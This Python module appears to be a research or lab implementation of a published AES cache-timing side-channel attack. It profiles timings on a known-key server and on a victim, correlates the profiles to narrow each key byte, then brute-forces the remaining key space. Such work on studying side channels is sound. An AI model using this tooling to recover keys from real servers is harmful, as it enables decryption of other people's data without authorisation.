"""First-round profiling attack against the timing oracle.

Stages: time random packets on a server whose key we know (study), time
random packets on the victim (attack), turn both into per-byte timing
profiles, then slide the study profile over the attack profile by XOR to
rank every key byte.  The surviving candidates are searched with the
victim's scrambled zeros.
"""

from __future__ import annotations

import logging
import struct
from dataclasses import dataclass
from pathlib import Path
from typing import Iterable, Protocol, Sequence

import numpy as np

from . import bruteforce
from .aes import scrambled_zeros

log = logging.getLogger(__name__)

DEFAULT_ALPHA = 2.0
DATASET_MAGIC = b"CTDS"
DATASET_VERSION = 1
_HEADER = struct.Struct("<4sIII")
_RECORD = struct.Struct("<16sQ")
PROFILE_HEADER = "pos,value,count,sum,sum_sq"


class Oracle(Protocol):
    def query(self, payload: bytes) -> tuple[int, bytes]: ...


class CollectionError(Exception):
    def __init__(self, msg: str, count: int):
        super().__init__(msg)
        self.count = count


@dataclass(frozen=True)
class TimingSample:
    plaintext: bytes
    cycles: int


# ----------------------------------------------------------------------------
# collection and dataset files


def collect(
    oracle: Oracle,
    n_samples: int,
    packet_size: int = 16,
    seed: int = 0,
    out_path: str | Path | None = None,
) -> list[TimingSample]:
    """Time ``n_samples`` uniformly random packets, strictly one at a time.

    Payloads come from ``numpy.random.default_rng(seed)``.  If the oracle
    connection fails, the samples gathered so far are written to
    ``out_path`` and ``CollectionError`` reports how many there were.
    """
    if n_samples < 1:
        raise ValueError("n_samples must be >= 1")
    rng = np.random.default_rng(seed)
    samples = []
    try:
        for _ in range(n_samples):
            payload = rng.bytes(packet_size)
            cycles, _ = oracle.query(payload)
            samples.append(TimingSample(payload[:16], cycles))
    except (ConnectionError, OSError) as e:
        if out_path is not None:
            write_dataset(out_path, samples, packet_size)
        raise CollectionError(f"oracle failed after {len(samples)} samples: {e}", len(samples)) from e
    if out_path is not None:
        write_dataset(out_path, samples, packet_size)
    return samples


def write_dataset(path: str | Path, samples: Sequence[TimingSample], packet_size: int) -> None:
    with open(path, "wb") as f:
        f.write(_HEADER.pack(DATASET_MAGIC, DATASET_VERSION, packet_size, len(samples)))
        for s in samples:
            f.write(_RECORD.pack(s.plaintext, s.cycles))


def read_dataset(path: str | Path) -> tuple[list[TimingSample], int]:
    """Return ``(samples, packet_size)``."""
    data = Path(path).read_bytes()
    if len(data) < _HEADER.size:
        raise ValueError(f"{path}: truncated header")
    magic, version, packet_size, count = _HEADER.unpack_from(data)
    if magic != DATASET_MAGIC or version != DATASET_VERSION:
        raise ValueError(f"{path}: not a timing dataset")
    if len(data) != _HEADER.size + count * _RECORD.size:
        raise ValueError(f"{path}: expected {count} records")
    samples = [TimingSample(pt, c) for pt, c in _RECORD.iter_unpack(data[_HEADER.size:])]
    return samples, packet_size


# ----------------------------------------------------------------------------
# profiles


@dataclass
class TimingProfile:
    """Per (byte position, byte value) cycle statistics."""

    count: np.ndarray   # (16, 256) int64
    sum: np.ndarray     # (16, 256) int64
    sum_sq: np.ndarray  # (16, 256) int64

    @property
    def n_samples(self) -> int:
        return int(self.count[0].sum())

    @property
    def grand_mean(self) -> float:
        return float(self.sum[0].sum()) / self.n_samples

    def means(self) -> np.ndarray:
        with np.errstate(invalid="ignore", divide="ignore"):
            return np.where(self.count > 0, self.sum / np.maximum(self.count, 1), np.nan)

    @property
    def signature(self) -> np.ndarray:
        """Mean minus grand mean; zero where a value was never seen."""
        m = self.means()
        return np.where(self.count > 0, m - self.grand_mean, 0.0)

    def to_csv(self) -> str:
        lines = [PROFILE_HEADER]
        for j in range(16):
            for b in range(256):
                lines.append(f"{j},{b},{self.count[j, b]},{self.sum[j, b]},{self.sum_sq[j, b]}")
        return "\n".join(lines) + "\n"

    def save(self, path: str | Path) -> None:
        Path(path).write_text(self.to_csv())

    @classmethod
    def load(cls, path: str | Path) -> "TimingProfile":
        lines = Path(path).read_text().splitlines()
        if not lines or lines[0].strip() != PROFILE_HEADER:
            raise ValueError(f"{path}: missing header {PROFILE_HEADER!r}")
        arr = np.zeros((3, 16, 256), dtype=np.int64)
        for line in lines[1:]:
            if line.strip():
                j, b, c, s, sq = (int(x) for x in line.split(","))
                arr[:, j, b] = c, s, sq
        return cls(arr[0], arr[1], arr[2])


def build_profile(samples: Iterable[TimingSample]) -> TimingProfile:
    samples = list(samples)
    if not samples:
        raise ValueError("cannot profile an empty dataset")
    pts = np.frombuffer(b"".join(s.plaintext for s in samples), dtype=np.uint8).reshape(-1, 16)
    cyc = np.array([s.cycles for s in samples], dtype=np.int64)
    count = np.zeros((16, 256), dtype=np.int64)
    total = np.zeros((16, 256), dtype=np.int64)
    total_sq = np.zeros((16, 256), dtype=np.int64)
    for j in range(16):
        col = pts[:, j]
        count[j] = np.bincount(col, minlength=256)
        np.add.at(total[j], col, cyc)
        np.add.at(total_sq[j], col, cyc * cyc)
    return TimingProfile(count, total, total_sq)


# ----------------------------------------------------------------------------
# correlation and candidate spaces


@dataclass
class CandidateKeySpace:
    """Surviving values per key byte, best-scoring first."""

    candidates: list[list[int]]

    def __post_init__(self):
        if len(self.candidates) != 16:
            raise ValueError("need 16 positions")
        for j, c in enumerate(self.candidates):
            if not 1 <= len(c) <= 256 or len(set(c)) != len(c) or not all(0 <= v < 256 for v in c):
                raise ValueError(f"position {j}: bad candidate list")

    @classmethod
    def full(cls) -> "CandidateKeySpace":
        return cls([list(range(256)) for _ in range(16)])

    @classmethod
    def singleton(cls, key: bytes) -> "CandidateKeySpace":
        return cls([[b] for b in key])

    def __len__(self):
        return 16

    def to_text(self) -> str:
        return "".join(
            f"{len(c)} {j} {' '.join(f'{v:02x}' for v in c)}\n" for j, c in enumerate(self.candidates)
        )

    def save(self, path: str | Path) -> None:
        Path(path).write_text(self.to_text())

    @classmethod
    def from_text(cls, text: str) -> "CandidateKeySpace":
        """Parse ``<count> <position> <hex...>`` lines; absent positions are full."""
        cands: list[list[int] | None] = [None] * 16
        for lineno, line in enumerate(text.splitlines(), 1):
            count, pos, values = parse_candidate_line(line)
            if count is None:
                continue
            if len(values) != count:
                raise ValueError(f"line {lineno}: count {count} but {len(values)} values")
            cands[pos] = values
        return cls([c if c is not None else list(range(256)) for c in cands])

    @classmethod
    def load(cls, path: str | Path) -> "CandidateKeySpace":
        return cls.from_text(Path(path).read_text())


def parse_candidate_line(line: str) -> tuple[int | None, int | None, list[int]]:
    parts = line.split("#", 1)[0].split()
    if not parts:
        return None, None, []
    count, pos = int(parts[0]), int(parts[1])
    if not 0 <= pos < 16:
        raise ValueError(f"position {pos} out of range")
    return count, pos, [int(v, 16) for v in parts[2:]]


def correlation_scores(study: TimingProfile, study_key: bytes, attack: TimingProfile) -> np.ndarray:
    """(16, 256) scores; row j, column c is the match of key byte c."""
    s_sig = study.signature
    a_sig = attack.signature
    b = np.arange(256)
    scores = np.empty((16, 256))
    for j in range(16):
        # shifted[c, b] = study signature at b ^ study_key[j] ^ c
        shifted = s_sig[j][b[None, :] ^ study_key[j] ^ b[:, None]]
        scores[j] = shifted @ a_sig[j]
    return scores


def correlate(
    study: TimingProfile,
    study_key: bytes,
    attack: TimingProfile,
    alpha: float = DEFAULT_ALPHA,
) -> CandidateKeySpace:
    """Keep each byte value scoring within ``alpha`` standard deviations of the best."""
    scores = correlation_scores(study, study_key, attack)
    out = []
    for j in range(16):
        row = scores[j]
        cut = row.max() - alpha * row.std()
        keep = np.flatnonzero(row >= cut)
        # best score first, ties by value
        order = sorted(keep.tolist(), key=lambda c: (-row[c], c))
        out.append(order)
    return CandidateKeySpace(out)


def keyspace_size(cs: CandidateKeySpace) -> int:
    n = 1
    for c in cs.candidates:
        n *= len(c)
    return n


# ----------------------------------------------------------------------------
# key search


def verify_key(candidate: bytes, zeros: bytes) -> bool:
    return scrambled_zeros(candidate) == bytes(zeros)


@dataclass
class SearchResult:
    key: bytes | None
    trials: int

    @property
    def found(self) -> bool:
        return self.key is not None


def brute_force(cs: CandidateKeySpace, zeros: bytes) -> SearchResult:
    """Odometer search (position 15 fastest, best candidates first)."""
    key, trials = bruteforce.search(cs.candidates, zeros)
    return SearchResult(key, trials)


def missing_positions(cs: CandidateKeySpace, true_key: bytes) -> list[int]:
    return [j for j in range(16) if true_key[j] not in cs.candidates[j]]
